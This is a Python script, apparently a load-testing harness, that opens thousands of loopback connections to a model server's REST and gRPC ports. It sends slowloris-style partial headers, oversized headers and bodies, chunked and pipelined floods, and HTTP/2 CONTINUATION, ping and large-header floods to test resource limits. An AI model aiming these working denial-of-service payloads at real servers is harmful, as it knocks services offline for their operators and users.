"""Strangers who want to exhaust a model server, as a program: thousands of connections in one thread.

`attacker.py REST_PORT GRPC_PORT CONNECTIONS STEPS` goes on until its standard input ends, and then prints counts. All
connections take turns, STEPS of them per second, and other processes go first: a flood from elsewhere would not take
the processor from the server and its clients either. In a turn a connection sends up to 64 KiB, or is opened again if
the server has closed it.
"""

import errno
import itertools
import json
import os
import random
import select
import socket
import sys
import time
from collections import Counter

PIECE = 1 << 16  # bytes of a turn
ADDRESSES = 20  # of the attackers, on loopback
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = b"/tensorflow.serving.PredictionService/Predict"


def head(fields=b"", method=b"POST", path=b"/v1/models/m:predict"):
    return method + b" " + path + b" HTTP/1.1\r\nHost: localhost\r\n" + fields


def silent():
    return itertools.repeat(b"")


def half_headers():
    yield head()
    for number in itertools.count():
        yield b"X-%d: a\r\n" % number


def large_header():
    yield head() + b"X: "
    yield from itertools.repeat(b"a" * PIECE)


def many_headers():
    yield head()
    yield from itertools.repeat(b"X: a\r\n" * (PIECE // 6))


def slow_body():
    yield head(b"Content-Length: 1000000\r\n\r\n")
    yield from itertools.repeat(b"[")


def big_body():
    yield head(b"Authorization: Bearer wrong\r\nContent-Length: 67108864\r\n\r\n")
    yield from itertools.repeat(b"[" * PIECE)


def chunked_body():
    yield head(b"Transfer-Encoding: chunked\r\n\r\n")
    yield from itertools.repeat(b"1\r\n[\r\n" * (PIECE // 6))


def pipelined():
    one = head(b"Content-Length: 2\r\n\r\n{}")
    yield from itertools.repeat(one * (PIECE // len(one)))


def slow_reader():
    yield from itertools.repeat(head(b"\r\n", b"GET", b"/v2/health/live"))


def frame(kind, flags, stream, content):
    return len(content).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + content


def fields(size=0, path=PATH):
    """Returns the headers of a gRPC call without a token, as HPACK literals."""
    values = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost")]
    values += [(b"content-type", b"application/grpc"), (b"te", b"trailers")]
    values += [(b"x-%d" % number, b"a" * 100) for number in range(size)]
    return b"".join(b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in values)


SETTINGS = PREFACE + frame(4, 0, 0, b"")


def grpc_half_preface():
    yield PREFACE[:10]
    yield from itertools.repeat(b"")


def grpc_half_open():
    yield PREFACE
    yield from itertools.repeat(b"")


def grpc_idle():
    yield SETTINGS
    yield from itertools.repeat(frame(6, 0, 0, bytes(8)))  # pings


def grpc_half_headers():
    yield SETTINGS + frame(1, 0, 1, fields())
    yield from itertools.repeat(frame(9, 0, 1, b"\0\3x-a\1a"))  # CONTINUATION


def grpc_large_headers():
    yield SETTINGS + frame(1, 4, 1, fields(100))
    for stream in itertools.count(3, 2):
        yield frame(1, 4, stream, fields(100))


def grpc_big_message():
    yield SETTINGS + frame(1, 4, 1, fields()) + frame(0, 0, 1, b"\0" + (1 << 26).to_bytes(4, "big"))
    for stream in itertools.count(3, 2):
        yield frame(0, 0, stream - 2, bytes(1 << 14)) * 3 + frame(1, 4, stream, fields())


REST = (silent, half_headers, large_header, many_headers, slow_body, big_body, chunked_body, pipelined, slow_reader)
GRPC = (silent, grpc_half_preface, grpc_half_open, grpc_idle, grpc_half_headers, grpc_large_headers, grpc_big_message)


class Stranger:
    """One connection, which is opened again whenever the server closes it."""

    def __init__(self, number, kinds):
        self.kind, self._target = kinds[number % len(kinds)]
        self._source = f"127.0.1.{1 + number % ADDRESSES}"
        self._end = None
        self._pieces = iter(())
        self._left = b""

    def step(self):
        """Takes a turn; returns what came of it."""
        if self._end is None:
            return self._open()
        try:
            if self.kind is not slow_reader and not self._end.recv(PIECE):
                return self._close()
        except BlockingIOError:
            pass
        except OSError:
            return self._close()
        try:
            self._left = self._left or next(self._pieces)
            self._left = self._left[self._end.send(self._left) :] if self._left else b""
        except BlockingIOError:
            return "blocked"
        except OSError:
            return self._close()
        return "sent"

    def _open(self):
        end = socket.socket(socket.AF_INET if isinstance(self._target, tuple) else socket.AF_UNIX)
        end.setblocking(False)
        if end.family == socket.AF_INET:
            end.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT: the port is free for other servers
            end.bind((self._source, 0))
        if end.connect_ex(self._target) == errno.EAGAIN:  # a unix socket whose backlog is full
            end.close()
            return "blocked"
        self._end, self._pieces, self._left = end, self.kind(), b""
        return "opened"

    def _close(self):
        if self._end is not None:
            self._end.close()
        self._end = None
        return "closed"


def attack(kinds, connections, steps):
    """Has connections of all kinds, each a function and an address, take turns until the standard input ends."""
    os.nice(10)
    strangers = [Stranger(number, kinds) for number in range(connections)]
    random.Random(0).shuffle(strangers)
    counts = Counter()
    start = time.monotonic()
    for number, stranger in enumerate(itertools.cycle(strangers)):
        counts[stranger.step()] += 1
        ahead = start + number / steps - time.monotonic()
        if ahead > 0.005 and select.select([sys.stdin], [], [], ahead)[0]:
            break
        if ahead < -1:
            start -= ahead + 1  # a machine that is too busy makes the attack slower, not denser
        if number % 1000 == 0 and select.select([sys.stdin], [], [], 0)[0]:
            break
    print(json.dumps(counts | {"cpu_seconds": time.process_time(), "seconds": time.monotonic() - start}))


def main(rest_port, grpc_port, connections, steps):
    ports = (rest_port, REST), (grpc_port, GRPC)
    attack([(kind, ("127.0.0.1", port)) for port, kinds in ports for kind in kinds], connections, steps)


if __name__ == "__main__":
    main(*map(int, sys.argv[1:]))
